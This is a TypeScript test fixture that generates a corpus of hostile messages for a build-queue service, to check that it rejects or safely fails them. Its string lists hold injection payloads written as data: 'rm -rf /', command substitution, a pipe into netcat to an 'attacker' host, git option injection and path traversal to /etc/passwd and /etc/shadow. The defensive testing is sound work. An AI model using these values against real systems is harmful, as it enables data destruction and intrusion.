// The hostile-input corpus: inbound messages a broken or malicious publisher could put on the builder queue.
// Generated deterministically (no randomness without a seed), so a failing case can be named and replayed.
import { atom, encode, fromJson, map, tuple, type MapEntry, type Term } from '../../src/etf';
import { jsonRequestTerm } from '../../src/messages/request-file';
import { REQUIRED_FIELDS, ROUTE_FIELDS } from '../unit/messages/sample-request';

/**
 * How the builder must answer a case: refuse the message, or run a workflow that fails with a reason; a
 * corrupted byte inside a string leaves a valid message, so `either` accepts both.
 */
export type Expectation = 'rejected' | 'failed' | 'either';

export interface HostileCase {
  readonly name: string;
  readonly bytes: Buffer;
  readonly expect: Expectation;
  /** The workflow id the message carries, when a reply can be sent for it. */
  readonly workflowId?: string;
  /** AMQP headers to publish the message with: the publisher chooses those too. */
  readonly headers?: Record<string, unknown>;
}

/** A valid request to build from: every case changes one thing. */
export function baseRequest(
  id: string,
  deploymentRepo: string,
  fields: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    id,
    deployment_repo: deploymentRepo,
    deployment_repo_git_ref: 'main',
    source_repo: 'anon/hostile_missing_source',
    source_repo_git_ref: 'main',
    milestones: ['build'],
    current_step: 'build',
    workflow_start_time: [1700, 0, 0],
    step_time: [1700, 0, 0],
    event_log: [],
    ...ROUTE_FIELDS,
    ...fields,
  };
}

let serial = 0;
/** A fresh, valid workflow id per case. */
function nextId(): string {
  serial += 1;
  return `00000000-0000-4000-8000-${serial.toString(16).padStart(12, '0')}`;
}

const etf = (json: Record<string, unknown>): Buffer => encode(jsonRequestTerm(json));

// Things a string field must never be trusted with.
const NASTY_STRINGS: readonly [string, string][] = [
  ['shell-semicolon', 'org/repo; rm -rf /'],
  ['shell-subst', 'org/$(id)'],
  ['shell-backtick', 'org/`touch /tmp/pwned`'],
  ['shell-pipe', 'org/repo | nc attacker 1'],
  ['shell-and', 'org/repo && reboot'],
  ['dotdot', '../../etc/passwd'],
  ['dotdot-inner', 'org/../../../root'],
  ['absolute-path', '/etc/shadow'],
  ['newline', 'org/repo\nmalicious'],
  ['carriage-return', 'org/repo\r\nHeader: x'],
  ['nul-byte', 'org/re\u0000po'],
  ['unicode-rtl', 'org/\u202erepo'],
  ['emoji', 'org/🔥repo'],
  ['url-credentials', 'https://user:s3cr3t-pass@127.0.0.1:1/org/repo.git'],
  ['ssh-url', 'git@127.0.0.1:org/repo.git'],
  ['file-url', 'file:///etc/passwd'],
  ['option-injection', '--upload-pack=touch /tmp/pwned'],
  ['empty', ''],
  ['spaces', '   '],
  ['percent-encoded-dotdot', 'https://127.0.0.1:1/%2e%2e/%2e%2e/etc'],
];

const NASTY_REFS: readonly [string, string][] = [
  ['ref-shell', 'main; rm -rf /'],
  ['ref-dotdot', '../../HEAD'],
  ['ref-option', '--force'],
  ['ref-newline', 'main\nfoo'],
  ['ref-nul', 'ma\u0000in'],
  ['ref-lock', 'refs/heads/main.lock'],
  ['ref-space', 'feature branch'],
  ['ref-tilde', 'main~1^2'],
  ['ref-colon', 'main:refs/heads/evil'],
  ['ref-huge', 'r'.repeat(5000)],
];

// For every field the schema knows, values of the wrong type.
const WRONG_TYPES: readonly [string, unknown[]][] = [
  ['id', [42, ['x'], 'not-a-uuid', '../../etc']],
  ['deployment_repo', [7, { a: 1 }, true]],
  ['deployment_repo_git_ref', [1.5, ['main']]],
  ['source_repo', [123, [1]]],
  ['source_repo_git_ref', [false, { ref: 'main' }]],
  ['milestones', ['build', [1, 2], [['build']], {}]],
  ['current_step', ['deploy', 'BUILD', 3, ['build']]],
  ['event_log', ['text', [1], [{}]]],
  ['workflow_error', ['yes', 1]],
  ['workflow_completed', ['no', 0]],
  ['workflow_step_durations', [['a'], { build: 5 }]],
  ['execute_options', ['x', [1]]],
  ['force_build', [1, ['true']]],
  ['build_messaging_exchange_id', ['one', 1.5]],
  ['deploy_messaging_exchange_id', [{}, 'x']],
  ['orchestration_queue_name', ['', 5]],
  ['workflow_orchestration_exchange_id', ['', 3, []]],
  ['workflow_orchestration_broker_id', ['', null]],
  ['notifications_exchange_id', ['', {}]],
  ['notifications_broker_id', [[], '']],
  ['notifications_config', ['rooms', [1]]],
  ['fleet_config', [3, 'x']],
  ['aws_config', [true, ['x']]],
  ['deployable_units', ['unit', 5]],
  ['ecs_task_definition', [{}, 9]],
  ['docker_build_etcd_token', [5, ['t']]],
  ['etcd_token', [[], 1]],
  ['elapsed_step_time', [5]],
  ['elapsed_workflow_time', [[]]],
  ['workflow_duration', [{}]],
  ['scheduled_start_time', [3]],
  ['source_commit_hash', [1]],
  ['workflow_id', [1]],
];

function truncations(valid: Buffer): HostileCase[] {
  const cuts = [
    ...[1, 2, 3, 5, 8, 13, 21, 34, 55, 89, 144, 233, 377, 610],
    ...[0.2, 0.4, 0.6, 0.8, 0.9, 0.95, 0.99].map((f) => Math.floor(valid.length * f)),
    valid.length - 1,
  ];
  return cuts
    .filter((n) => n < valid.length)
    .map((n) => ({ name: `truncated-at-${n}`, bytes: valid.subarray(0, n), expect: 'rejected' as const }));
}

function corruptions(valid: Buffer): HostileCase[] {
  const cases: HostileCase[] = [];
  // Tag and length bytes near the start, then spread over the message: each flips one byte to 0xff.
  const positions = [0, 1, 2, 3, 4, 5, 6, 7, 9, 11, ...Array.from({ length: 20 }, (_, i) => 20 + i * 29)];
  for (const at of positions.filter((p) => p < valid.length)) {
    const bytes = Buffer.from(valid);
    bytes[at] = 0xff;
    cases.push({ name: `corrupted-byte-${at}`, bytes, expect: 'either' });
  }
  return cases;
}

/** `[[[...[]...]]]` nested `depth` deep, as bytes: building the term first would itself need the recursion. */
function deepList(depth: number): Buffer {
  const open = Buffer.from([108, 0, 0, 0, 1]);
  return Buffer.concat([
    Buffer.from([131]),
    ...Array<Buffer>(depth).fill(open),
    Buffer.alloc(depth + 1, 106),
  ]);
}

/**
 * Every case; names are unique. `deploymentRepo` is a real deployment repository, so that cases aimed at later
 * steps (the source repository, its ref) get past the checkout.
 */
export function hostileCorpus(deploymentRepo: string): HostileCase[] {
  serial = 0;
  const base = (id: string, fields: Record<string, unknown> = {}) => baseRequest(id, deploymentRepo, fields);
  const cases: HostileCase[] = [];
  const validId = nextId();
  const valid = etf(base(validId));
  cases.push(...truncations(valid), ...corruptions(valid));

  const notEtf: [string, Buffer][] = [
    ['empty-body', Buffer.alloc(0)],
    ['json-body', Buffer.from(JSON.stringify(base(nextId())))],
    ['bad-version-byte', Buffer.concat([Buffer.from([130]), valid.subarray(1)])],
    ['trailing-bytes', Buffer.concat([valid, Buffer.from([0, 1, 2])])],
    ['unknown-tag', Buffer.from([131, 200, 0, 0])],
    ['huge-length-field', Buffer.from([131, 109, 0xff, 0xff, 0xff, 0xff, 0x61])],
    ['huge-list-length', Buffer.from([131, 108, 0xff, 0xff, 0xff, 0xff, 106])],
    ['deep-nesting', deepList(100_000)],
    ['long-atom', Buffer.concat([Buffer.from([131, 100, 0x01, 0x10]), Buffer.alloc(272, 0x61)])],
    ['compressed-garbage', Buffer.from([131, 80, 0, 0, 0, 10, 1, 2, 3, 4])],
  ];
  for (const [name, bytes] of notEtf) cases.push({ name, bytes, expect: 'rejected' });
  // Headers just under the 64 KiB a field table may take: the dead-letter copy adds its own to them.
  const padding = { 'x-padding': 'p'.repeat(65_450) };
  cases.push(
    {
      name: 'oversized-headers-undecodable',
      bytes: Buffer.from('not etf'),
      expect: 'rejected',
      headers: padding,
    },
    {
      name: 'oversized-headers-invalid',
      bytes: encode(atom('build')),
      expect: 'rejected',
      headers: padding,
    },
  );

  const notAMap: [string, Term][] = [
    ['atom-message', atom('build')],
    ['binary-message', 'build please'],
    ['list-message', ['id', 'x']],
    ['tuple-message', tuple(atom('build'), 'x')],
    ['integer-message', 42],
    ['nil-message', null],
  ];
  for (const [name, term] of notAMap) cases.push({ name, bytes: encode(term), expect: 'rejected' });

  for (const field of REQUIRED_FIELDS) {
    const id = nextId();
    const json = base(id);
    delete json[field];
    const carried = field === 'id' ? {} : { workflowId: id };
    cases.push({ name: `missing-${field}`, bytes: etf(json), expect: 'rejected', ...carried });
  }
  for (const [field, values] of WRONG_TYPES) {
    values.forEach((value, i) => {
      const id = nextId();
      const json = base(id, { [field]: value });
      // A wrong id is still the id a failure is reported under, as long as it is text.
      const carried =
        field !== 'id' ? { workflowId: id } : typeof value === 'string' ? { workflowId: value } : {};
      cases.push({ name: `wrong-type-${field}-${i}`, bytes: etf(json), expect: 'rejected', ...carried });
    });
  }
  {
    const id = nextId();
    const huge = base(id, { event_log: Array.from({ length: 100_000 }, (_, i) => `entry ${i}`) });
    cases.push({ name: 'huge-event-log', bytes: etf(huge), expect: 'failed', workflowId: id });
  }
  for (const [field, value] of [
    ['deployment_repo', 'x'.repeat(1_000_000)],
    ['source_repo_git_ref', 'y'.repeat(1_000_000)],
  ] as const) {
    const id = nextId();
    cases.push({
      name: `huge-${field}`,
      bytes: etf(base(id, { [field]: value })),
      expect: 'failed',
      workflowId: id,
    });
  }
  for (const [name, value] of NASTY_STRINGS) {
    const id = nextId();
    cases.push({
      name: `deployment-repo-${name}`,
      bytes: etf(base(id, { deployment_repo: value })),
      expect: 'failed',
      workflowId: id,
    });
  }
  for (const [name, value] of NASTY_STRINGS) {
    const id = nextId();
    // An empty source_repo means "no source repository": the ref is then the commit, and a valid request
    // builds. Only without a ref as well is there nothing to build from.
    const ref = value === '' ? { source_repo_git_ref: '' } : {};
    cases.push({
      name: `source-repo-${name}`,
      bytes: etf(base(id, { source_repo: value, ...ref })),
      expect: 'failed',
      workflowId: id,
    });
  }
  for (const [field, prefix] of [
    ['deployment_repo_git_ref', 'deployment'],
    ['source_repo_git_ref', 'source'],
  ] as const) {
    for (const [name, value] of NASTY_REFS) {
      const id = nextId();
      cases.push({
        name: `${prefix}-${name}`,
        bytes: etf(base(id, { [field]: value })),
        expect: 'failed',
        workflowId: id,
      });
    }
  }
  {
    const id = nextId();
    const binaryKeys = encode(
      map(Object.entries(base(id)).map(([key, value]): MapEntry => [key, fromJson(value)])),
    );
    cases.push({ name: 'binary-keys', bytes: binaryKeys, expect: 'rejected' });
    const many = nextId();
    const milestones = Array.from({ length: 100_000 }, () => 'build');
    cases.push({
      name: 'huge-milestones',
      bytes: etf(base(many, { milestones })),
      expect: 'failed',
      workflowId: many,
    });
    // Every element wrong: the reason must not grow with the message.
    for (const field of ['milestones', 'event_log']) {
      const id = nextId();
      cases.push({
        name: `huge-${field}-of-wrong-type`,
        bytes: etf(base(id, { [field]: Array.from({ length: 100_000 }, (_, i) => i) })),
        expect: 'rejected',
        workflowId: id,
      });
    }
    const extra = nextId();
    const unknown = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`unknown_${i}`, i]));
    cases.push({
      name: 'unknown-keys',
      bytes: etf(base(extra, unknown)),
      expect: 'failed',
      workflowId: extra,
    });
  }
  return cases;
}
